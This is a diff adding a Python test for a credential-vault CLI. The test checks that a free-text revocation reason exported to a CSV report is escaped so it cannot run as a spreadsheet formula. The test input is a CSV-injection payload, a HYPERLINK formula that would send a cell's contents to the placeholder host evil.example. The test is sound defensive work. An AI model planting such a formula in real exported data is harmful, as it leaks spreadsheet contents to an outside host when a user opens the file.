@@ -191,3 +191,15 @@ def test_html_reports_render_in_chromium(history: Harness, chromium: str,
     *errors, _, body = _render(chromium, audit, tmp_path / "audit.png")
     assert errors == []
     assert "client retire-secret" in body and MAILBOX in body
+
+
+def test_free_text_never_becomes_a_spreadsheet_formula(sqlite_vault: Harness) -> None:
+    from tests.conftest import add_client, import_grant
+
+    add_client(sqlite_vault)
+    import_grant(sqlite_vault)
+    sqlite_vault.ok("grant", "revoke", "help@contoso.com", "--reason",
+                    '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    (row,) = list(csv.DictReader(io.StringIO(
+        sqlite_vault.ok("report", "revocations", "--format", "csv").out)))
+    assert row["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
